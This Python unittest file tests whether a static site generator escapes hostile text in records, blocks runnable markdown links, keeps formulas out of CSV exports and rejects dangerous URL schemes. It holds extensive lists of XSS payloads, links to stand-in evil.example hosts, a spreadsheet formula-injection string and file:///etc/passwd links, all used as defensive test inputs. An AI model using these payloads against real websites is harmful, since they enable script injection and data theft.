"""What a record says never becomes markup: its pages have the tree of a harmless twin's."""

import json
import tempfile
import unittest
from pathlib import Path
from urllib.parse import urlsplit

import html5lib

from support import build, tool, write

SETTINGS = "organization: {name: %s, domain: fjord.example, timezone: Europe/Oslo}\n"

# A kind with a place for free text in every context that a page has.
KIND = """\
kind: probe
plural: probes
label: {singular: Probe, plural: Probes}
description: A record with a field of every type that holds free text.
fields:
  name: {type: string, required: true}
  line: string
  long: text
  body: markdown
  lines: {type: list, of: string}
  texts: {type: list, of: text}
  keys: {type: map, of: string}
  nested: {type: object, fields: {inner: string, deeper: {type: list, of: {type: object, fields: {deepest: string}}}}}
relations:
  next: {to: probe, many: true, inverse: previous, self: true, attributes: {role: string, why: text}}
views:
  list: [name, line, long, lines, keys, next]
"""

# Combining and joining marks: with one of them behind it, a delimiter is no Character of its own.
MARKS = "\u0301\u0308\u0345\u0483\u05b0\u064b\u093c\u0e31\u20dd\u302a\ufe20\U0001d165\U000e0100"
PAYLOADS = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea></style></script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "` onmouseover=alert(1) `",
    "x\" style=\"position:fixed",
    "--><script>alert(1)</script><!--",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=x?><script>alert(1)</script>",
    "{{name}} {{{name}}} {{&name}} {{>page}} {{#x}}{{/x}}",
    "${alert(1)} #{alert(1)} <%= 1 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&quot; onmouseover=&quot;alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=\"x\" onerror=\"alert(1)\" /",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<div onpointerenter=alert(1) tabindex=1 autofocus onfocus=alert(1)>",
    "</main></body></html><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<object data=data:text/html,x></object><embed src=x>",
    "<input autofocus onfocus=alert(1)><select onchange=x><keygen>",
    "<table><td background=javascript:alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "=cmd|' /C calc'!A0",
    *(f"{delimiter}{mark} onmouseover=alert(1) x={delimiter}{mark}" for delimiter in "\"'<>&`"
      for mark in MARKS),
    *(f"<{mark}img src=x onerror=alert(1)>" for mark in MARKS),
]  # fmt: skip
MARKDOWN = [
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java&#115;cript:alert(1))",
    "[x](\tjavascript:alert(1))", "[x](&#1;javascript:alert(1))", "[x](data:text/html,x)",
    "[x](vbscript:x)", "[x](view-source:x)", "[x](feed:x)", "[x](jar:x!/)", "[x](blob:x)",
    "[x](smb://x)", "[x](intent:x)", "[x](ms-msdt:x)", "[x](file:///etc/passwd)",
    "[x](//evil.example)", "![x](javascript:alert(1))", "![x](data:image/svg+xml,x)",
    "<javascript:alert(1)>", "<data:text/html,x>", "[x][r]\n\n[r]: javascript:alert(1)",
    "[x](<javascript:alert(1)>)", "[x](https://a.example/\"onmouseover=alert(1))",
    "[x](https://a.example \"t\\\" onmouseover=alert(1)\")", "![\" onerror=alert(1)](x.png)",
    "```\"><script>alert(1)</script>\ncode\n```", "`<script>alert(1)</script>`",
    "# <script>alert(1)</script>", "| <script> |\n| --- |\n| <img onerror=x> |",
    "[^1]\n\n[^1]: <script>alert(1)</script>", "- [ ] <script>alert(1)</script>",
    "[[probe:p0|<script>alert(1)</script>]]", "[[\"><script>alert(1)</script>]]",
]  # fmt: skip

SCHEMES = {"", "http", "https", "mailto", "tel", "data"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "poster", "cite", "data", "srcset"}


def quoted(text):
    """A YAML scalar of any text."""
    escaped = text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n").replace("\t", "\\t")
    return f'"{escaped}"'


def probe(number, text, body):
    value = quoted(text)
    return (
        f"name: {value}\nline: {value}\nlong: {value}\nbody: {quoted(body)}\nlines: [{value}]\n"
        f"texts: [{value}]\nkeys: {{slug: {value}}}\n"
        f"nested: {{inner: {value}, deeper: [{{deepest: {value}}}]}}\n"
        f"next: [{{ref: p{number}, role: {value}, why: {value}}}]\n"
    )


def repository(folder, texts, bodies, organization):
    files = {"helios.yaml": SETTINGS % quoted(organization), "kinds/probe.yaml": KIND}
    for number, (text, body) in enumerate(zip(texts, bodies)):
        files[f"probes/p{number:03d}.yaml"] = probe(f"{number:03d}", text, body)
    write(folder, files)


def shape(page):
    """The elements of a page in order, each with the names of its attributes."""
    document = html5lib.parse(page.read_bytes(), treebuilder="etree", namespaceHTMLElements=False)
    return [
        (element.tag, tuple(sorted(element.attrib)))
        for element in document.iter()
        if isinstance(element.tag, str)
    ]


class InjectionTests(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        holder = tempfile.TemporaryDirectory(prefix="helios-injection-")
        cls.addClassCleanup(holder.cleanup)
        cls.folder = Path(holder.name)

    def portal(self, name, texts, bodies, organization):
        repository(self.folder / name, texts, bodies, organization)
        return build(self.folder / name, self.folder / f"{name}-site")

    def refused(self, bodies):
        """The texts that 'validate' finds errors in."""
        folder = self.folder / "all"
        repository(folder, ["plain"] * len(bodies), bodies, "Fjord")
        report = json.loads(tool("validate", folder, "--format", "json").stdout)
        errors = [one for one in report["diagnostics"] if one["severity"] == "error"]
        return [bodies[int(one["path"].removeprefix("probes/p")[:3])] for one in errors]

    def test_text_never_changes_the_tree(self):
        # Markdown is a field of its own below: its markup is meant to become elements.
        plain = ["plain"] * len(PAYLOADS)
        hostile = self.portal("hostile", PAYLOADS, plain, PAYLOADS[18])
        harmless = self.portal("harmless", ["x" * 9] * len(PAYLOADS), plain, "Fjord")
        pages = sorted(page.relative_to(harmless) for page in harmless.rglob("*.html"))
        self.assertGreater(len(pages), len(PAYLOADS))
        for page in pages:
            with self.subTest(str(page)):
                self.assertEqual(shape(hostile / page), shape(harmless / page))

    def test_markdown_has_no_script_and_no_address_that_runs(self):
        bodies = MARKDOWN + PAYLOADS
        refused = self.refused(bodies)
        # What runs is an error, so that nothing is published; the rest is looked at below.
        running = [body for body in MARKDOWN if "script:" in body and body.startswith(("[x](", "!"))]
        self.assertGreater(len(running), 5)
        self.assertLessEqual(set(running) - set(refused), set())
        bodies = [body for body in bodies if body not in refused]
        portal = self.portal("markdown", ["plain"] * len(bodies), bodies, "Fjord")
        harmless = {
            element for page in (portal / "index.html", portal / "404.html")
            for element in [name for name, _ in shape(page)]
        }  # fmt: skip
        for page in sorted(portal.glob("probes/*/index.html")):
            tree = html5lib.parse(page.read_bytes(), namespaceHTMLElements=False)
            scripts = [e for e in tree.iter("script") if "src" not in e.attrib]
            with self.subTest(str(page.relative_to(portal))):
                self.assertEqual([e.text for e in scripts if e.get("type") != "application/json"], [])
                for element in tree.iter():
                    if not isinstance(element.tag, str):
                        continue
                    self.assertNotIn(element.tag, {"iframe", "object", "embed", "base", "form"} - harmless)
                    for name, value in element.attrib.items():
                        self.assertFalse(str(name).startswith("on"), (element.tag, name, value))
                        if name in URL_ATTRIBUTES:
                            self.check_address(element.tag, value)

    def check_address(self, tag, value):
        scheme = urlsplit("".join(c for c in value if c > " ")).scheme
        self.assertIn(scheme, SCHEMES, (tag, value))
        self.assertFalse(value.startswith(("//", "\\")), (tag, value))
        if scheme == "data":
            self.assertTrue(value.startswith("data:image/"), (tag, value))
            self.assertEqual(tag, "img" if tag != "link" else "link", (tag, value))

    def test_tables_for_spreadsheets_hold_no_formulas(self):
        for path in sorted(self.folder.glob("hostile-site/probes.csv")):
            for line in path.read_text().splitlines():
                self.assertNotRegex(line, r'(^|,)"?[=+@\t\r-]')


class AddressTests(unittest.TestCase):
    def test_fields_for_addresses_take_no_scheme_that_runs(self):
        with tempfile.TemporaryDirectory() as folder:
            asset = "name: A\nasset_type: laptop\nmake: B\nstatus: deployed\nuri: %s\n"
            addresses = ["javascript:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc"]
            write(folder, {"helios.yaml": SETTINGS % "Fjord"})
            for number, address in enumerate(addresses):
                write(folder, {f"assets/a{number}.yaml": asset % quoted(address)})
            result = tool("validate", folder)
            self.assertEqual(result.returncode, 1)
            for number in range(len(addresses)):
                self.assertIn(f"assets/a{number}.yaml:5:6", result.stdout)


if __name__ == "__main__":
    unittest.main()
